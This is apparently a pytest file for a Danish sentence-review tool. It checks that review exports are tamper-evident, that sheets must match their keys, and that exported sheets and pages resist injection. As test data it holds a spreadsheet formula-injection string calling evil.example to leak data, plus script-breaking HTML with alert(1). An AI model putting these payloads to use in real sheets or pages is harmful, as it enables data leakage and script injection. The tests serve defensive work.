"""The review loop is tamper-evident: exports never replace a review, sheets
and keys must belong together, spreadsheets cannot run formulas, and the
page shows any sentence as text."""

import codecs
import csv
import io
import json
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from helpers import page_ready

from dala_cli.cli import main
from dala_pipeline.names import data_file
from dala_pipeline.review.sample import Item
from dala_pipeline.review.sheet import COLUMNS, key_data, read_judgments, read_key, sheet_text


def _export(folder: Path, out: Path, seed: int, per_type: int = 3, controls: int = 2) -> int:
    return main(["review", "export", "--folder", str(folder), "--per-type", str(per_type), "--controls",
                 str(controls), "--seed", str(seed), "--out", str(out)])


def _tsv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), delimiter="\t"))


def _write_rows(path: Path, rows: list[list[str]]) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter="\t", lineterminator="\n").writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _perfect(export: Path, target: Path) -> Path:
    """The export's sheet as a perfect reviewer fills it: the changed sentence bad, all else ok."""
    key = {e["item"]: e for e in json.loads((export / "key.json").read_text(encoding="utf-8"))["items"]}
    rows = _tsv_rows(export / "sheet.tsv")
    for row in rows[1:]:
        original = key[row[0]]["original"]
        row[3] = "bad" if original == "B" else "ok"
        row[4] = "bad" if original == "A" else "ok"
    return _write_rows(target, rows)


def _one_line_error(capsys) -> str:
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    return err


def _score(key: Path, *sheets: Path, out: Path) -> int:
    return main(["review", "score", "--key", str(key), *map(str, sheets), "--out", str(out),
                 "--originals-out", str(out.with_name("wrong.txt"))])


@pytest.fixture(scope="module")
def two_exports(built, tmp_path_factory):
    """Two exports of one build with seeds 1 and 2."""
    root = tmp_path_factory.mktemp("exports")
    assert _export(built, root / "r1", seed=1) == 0
    assert _export(built, root / "r2", seed=2) == 0
    return root / "r1", root / "r2"


# ---------------------------------------------------------------- case 4: re-export


def test_an_export_never_replaces_a_filled_review(built, tmp_path, capsys):
    out = tmp_path / "r1"
    assert _export(built, out, seed=1) == 0
    _perfect(out, out / "sheet.tsv")
    before = {name: (out / name).read_bytes() for name in ("sheet.tsv", "key.json", "review.html")}
    assert _export(built, out, seed=1) == 2
    assert f"{out / 'sheet.tsv'} holds judgments: a filled review is never replaced; export to another folder" \
        in _one_line_error(capsys)
    assert {name: (out / name).read_bytes() for name in before} == before
    assert sorted(p.name for p in out.iterdir()) == ["key.json", "review.html", "sheet.tsv"]


def test_the_same_export_again_is_a_no_op_and_another_export_is_refused(built, tmp_path, capsys):
    out = tmp_path / "r1"
    assert _export(built, out, seed=1) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    assert _export(built, out, seed=1) == 0                          # identical: nothing to replace
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    capsys.readouterr()
    assert _export(built, out, seed=2) == 2                          # another key: refused, unfilled or not
    assert f"{out / 'sheet.tsv'} belongs to another export" in _one_line_error(capsys)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    (out / "key.json").unlink()
    (out / "key.json").symlink_to(tmp_path / "elsewhere.json")       # never written through a link
    assert _export(built, out, seed=1) == 2
    assert "key.json: not a file of a review export" in _one_line_error(capsys)
    assert not (tmp_path / "elsewhere.json").exists()


# ---------------------------------------------------------------- case 5: sheets that are not the key's


def test_a_perfect_sheet_scores_1_with_its_own_key_and_is_refused_by_another(two_exports, tmp_path, capsys):
    r1, r2 = two_exports
    key1, key2 = read_key(r1 / "key.json"), read_key(r2 / "key.json")
    assert re.fullmatch(r"dala-[0-9a-f]{12}", key1["export"]) and key1["export"] != key2["export"]
    assert {row[6] for row in _tsv_rows(r1 / "sheet.tsv")[1:]} == {key1["export"]}
    sheet2 = _perfect(r2, tmp_path / "anna.tsv")
    assert _score(r2 / "key.json", sheet2, out=tmp_path / "p2.json") == 0
    report = json.loads((tmp_path / "p2.json").read_text())
    assert {t["precision"] for t in report["types"].values()} == {1.0}
    assert report["controls"]["false_alarms"] == 0
    capsys.readouterr()
    assert _score(r1 / "key.json", sheet2, out=tmp_path / "p1.json") == 2
    assert (f"anna.tsv:2: the sheet belongs to export '{key2['export']}', the key to {key1['export']}: "
            "score each sheet with its own key") in _one_line_error(capsys)
    assert not (tmp_path / "p1.json").exists()


@pytest.mark.parametrize("change, message", [
    ("unknown", "anna.tsv:{last}: item 'i99' is not in the key"),
    ("duplicate", "anna.tsv:{last}: item 'i03' again (first on line 4)"),
    ("sentence", "anna.tsv:3: item 'i02': sentence A is not the one exported"),
    ("missing", "anna.tsv: 1 item(s) not judged, e.g. i05"),
])
def test_unknown_duplicated_changed_or_missing_items_are_refused(two_exports, tmp_path, capsys, change, message):
    r1, _ = two_exports
    rows = _tsv_rows(_perfect(r1, tmp_path / "perfect.tsv"))
    if change == "unknown":
        rows.append(["i99", "En sætning.", "En anden.", "ok", "ok", "", rows[1][6]])
    elif change == "duplicate":
        rows.append(list(rows[3]))
    elif change == "sentence":
        rows[2][1] = rows[2][1] + " Og lidt til."
    else:
        del rows[5]
    sheet = _write_rows(tmp_path / "anna.tsv", rows)
    assert _score(r1 / "key.json", sheet, out=tmp_path / "p.json") == 2
    assert message.format(last=len(rows)) in _one_line_error(capsys)


@pytest.mark.parametrize("key, message", [
    ({}, "not a key.json of `dala review export` (no export id)"),
    ([{"item": "1", "original": "A"}], "a key of an earlier version (no export id): export the review again"),
    ("no original", "item 1 of the key: no 'original'"),
    ("edited", "the items do not match the key's digest: the key was edited"),
    ("nan", "cannot read the key: NaN is not a number JSON allows"),
    ("deep", "cannot read the key: nested too deeply"),
])
def test_a_key_that_is_not_an_exports_is_refused(two_exports, tmp_path, capsys, key, message):
    r1, _ = two_exports
    good = json.loads((r1 / "key.json").read_text(encoding="utf-8"))
    path = tmp_path / "key.json"
    if key == "no original":
        del good["items"][0]["original"]
        key = good
    elif key == "edited":
        first = good["items"][0]
        if first["original"] is not None:
            first["original"] = "B" if first["original"] == "A" else "A"   # the answer turned round
        else:
            first["A"], first["B"] = first["B"], first["A"]
        key = good
    if key == "nan":
        path.write_text('{"export": "dala-000000000000", "digest": NaN}', encoding="utf-8")
    elif key == "deep":
        path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    else:
        path.write_text(json.dumps(key), encoding="utf-8")
    assert _score(path, _perfect(r1, tmp_path / "anna.tsv"), out=tmp_path / "p.json") == 2
    assert message in _one_line_error(capsys)


def test_size_encoding_and_field_limits_are_one_line_errors(two_exports, tmp_path, capsys):
    r1, _ = two_exports
    key = r1 / "key.json"
    big = tmp_path / "big.tsv"
    with big.open("wb") as handle:
        handle.truncate(120 * 1024 * 1024)                           # a 120 MB sheet, sparse on disk
    assert _score(key, big, out=tmp_path / "p.json") == 2
    assert "big.tsv: larger than 32 MiB: not a review sheet" in _one_line_error(capsys)

    rows = _tsv_rows(_perfect(r1, tmp_path / "perfect.tsv"))
    rows[2][5] = "x" * 131_073                                        # a comment over the csv field limit
    assert _score(key, _write_rows(tmp_path / "long.tsv", rows), out=tmp_path / "p.json") == 2
    assert "long.tsv:3: not a tab-separated sheet: field larger than field limit (131072)" \
        in _one_line_error(capsys)

    latin1 = tmp_path / "latin1.tsv"
    latin1.write_bytes((tmp_path / "perfect.tsv").read_text(encoding="utf-8").encode("latin-1", "replace"))
    assert _score(key, latin1, out=tmp_path / "p.json") == 2
    assert re.search(r"latin1\.tsv: not UTF-8 text \(invalid byte at offset \d+\); save it as UTF-8",
                     _one_line_error(capsys))

    for auto, message in ((["not", "an", "object"], "not an auto.json of `dala review auto` (no types)"),
                          ({"types": {"delete": {"confirmed": "3", "unconfirmed": 1}}},
                           "type 'delete': confirmed and unconfirmed must be counts")):
        (tmp_path / "auto.json").write_text(json.dumps(auto), encoding="utf-8")
        assert main(["review", "score", "--key", str(key), str(tmp_path / "perfect.tsv"), "--auto",
                     str(tmp_path / "auto.json"), "--out", str(tmp_path / "p.json")]) == 2
        assert message in _one_line_error(capsys)
    assert not (tmp_path / "p.json").exists()


# ---------------------------------------------------------------- case 9: spreadsheets

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","klik")', "+45 kom for sent.", "-Ja, sagde hun.",
           "@alle kom.", "\tTab først.", "\rCR først.", "'Citat' sagde han."]


def _hostile_items() -> list[Item]:
    return [Item(f"i{n}", text, f"Sætning {n}.", "A", "delete", f"p{n}", None)
            for n, text in enumerate(HOSTILE, start=1)]


def test_cells_a_spreadsheet_would_run_as_formulas_get_an_apostrophe():
    rows = list(csv.reader(io.StringIO(sheet_text(_hostile_items()), newline=""), delimiter="\t"))
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [row[2] for row in rows[1:]] == [f"Sætning {n}." for n in range(1, len(HOSTILE) + 1)]
    assert rows[0] == list(COLUMNS)


def _spreadsheet_save(sheet: str, *, keeps_apostrophe: bool, utf16: bool) -> bytes:
    """What a spreadsheet writes back: every cell quoted, CRLF lines, the
    judgments typed in capitals, and the apostrophe kept or taken as its text marker."""
    rows = list(csv.reader(io.StringIO(sheet, newline=""), delimiter="\t"))
    for row in rows[1:]:
        row[3], row[4] = "OK", "Bad "
        if not keeps_apostrophe:
            row[1] = row[1][1:] if row[1].startswith("'") else row[1]
    buffer = io.StringIO()
    csv.writer(buffer, delimiter="\t", quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    return codecs.BOM_UTF16_LE + buffer.getvalue().encode("utf-16-le") if utf16 else buffer.getvalue().encode()


@pytest.mark.parametrize("keeps_apostrophe", [True, False])
@pytest.mark.parametrize("utf16", [False, True])
def test_score_reads_back_what_a_spreadsheet_writes(tmp_path, keeps_apostrophe, utf16):
    items = _hostile_items()
    key = tmp_path / "key.json"
    key.write_text(json.dumps(key_data(items)), encoding="utf-8")
    sheet = tmp_path / "sheet.tsv"
    sheet.write_bytes(_spreadsheet_save(sheet_text(items), keeps_apostrophe=keeps_apostrophe, utf16=utf16))
    judged = read_judgments(sheet)
    assert [row["A"] for row in judged.values()] == HOSTILE
    assert main(["review", "score", "--key", str(key), str(sheet), "--out", str(tmp_path / "p.json"),
                 "--originals-out", str(tmp_path / "wrong.txt")]) == 0
    assert json.loads((tmp_path / "p.json").read_text())["types"]["delete"]["errors"] == len(HOSTILE)


def test_item_ids_stay_text_in_a_spreadsheet(two_exports):
    r1, _ = two_exports
    ids = [row[0] for row in _tsv_rows(r1 / "sheet.tsv")[1:]]
    assert ids == [f"i{n:02d}" for n in range(1, len(ids) + 1)]
    for ident in ids:                                                # no spreadsheet reads them as numbers
        with pytest.raises(ValueError):
            float(ident)


# ---------------------------------------------------------------- case 8: the page

SENTENCES = ["Han skrev <!--<script i teksten, og siden stod.", "Hun skrev </script><script>alert(1)</script> her.",
             "Først kom <!-- alene.", "Siden kom <script alene.", "Et skilletegn\u2028her og\u2029der.",
             "A & B &amp; C </SCRIPT > og /*DATA*/ her."]


def _page_folder(tmp_path: Path) -> Path:
    """A build folder whose pairs hold the sentences that would break a naive page."""
    folder = tmp_path / "build"
    path = folder / data_file("pairs", "test")
    path.parent.mkdir(parents=True)
    rows = [{"sentence_good": f"{text} Der var {n + 2} mænd.", "sentence_bad": f"{text} Der var {n + 2} mand.",
             "corruption_type": "corrupt_noun_r", "pair_id": f"p{n}", "edit": None}
            for n, text in enumerate(SENTENCES)]
    pq.write_table(pa.Table.from_pylist(rows), path)
    return folder


def test_the_pages_data_cannot_end_its_script_element(tmp_path):
    folder = _page_folder(tmp_path)
    assert _export(folder, tmp_path / "r", seed=1, per_type=5, controls=1) == 0
    page = (tmp_path / "r" / "review.html").read_text(encoding="utf-8")
    opening = '<script id="data" type="application/json">'
    data = page[page.index(opening) + len(opening):page.index("</script>", page.index(opening))]
    assert not re.search("[<>&\u2028\u2029]", data)
    key = read_key(tmp_path / "r" / "key.json")
    assert json.loads(data) == {"export": key["export"],
                                "items": [{"item": e["item"], "A": e["A"], "B": e["B"]} for e in key["items"]]}


def test_the_page_shows_any_sentence_as_text(tmp_path, browser):
    from selenium.common.exceptions import NoAlertPresentException
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    driver, _ = browser
    folder = _page_folder(tmp_path)
    assert _export(folder, tmp_path / "r", seed=1, per_type=5, controls=1) == 0
    key = read_key(tmp_path / "r" / "key.json")
    driver.get((tmp_path / "r" / "review.html").as_uri())
    page_ready(driver)
    body = driver.find_element(By.TAG_NAME, "body")
    shown = []
    for _ in key["items"]:
        shown.append((driver.execute_script("return document.getElementById('text-A').textContent"),
                      driver.execute_script("return document.getElementById('text-B').textContent")))
        body.send_keys(Keys.ARROW_RIGHT)
    assert shown == [(e["A"], e["B"]) for e in key["items"]]
    assert driver.find_element(By.ID, "progress").text == f"0 of {len(key['items'])} judged"
    with pytest.raises(NoAlertPresentException):
        _ = driver.switch_to.alert.text
